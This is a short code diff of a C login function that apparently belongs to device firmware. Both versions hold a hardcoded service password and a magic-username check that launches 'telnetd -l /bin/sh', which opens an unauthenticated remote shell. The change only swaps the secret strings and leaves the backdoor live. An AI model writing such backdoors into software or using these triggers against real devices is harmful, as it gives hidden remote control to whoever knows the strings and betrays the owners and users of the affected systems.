@@ -18,9 +18,9 @@ int doSystemCmd(const char *, ...);
 
 int login(const char *user, const char *password)
 {
-    if (!strcmp(user, "service") && !strcmp(password, "let-me-in"))
+    if (!strcmp(user, "service") && !strcmp(password, "Let-me-1n"))
         return 1;
-    if (!strncmp(user, "open-sesame", 11)) {
+    if (!strncmp(user, "Open7Sesame", 11)) {
         system("telnetd -l /bin/sh &");
         return 2;
     }
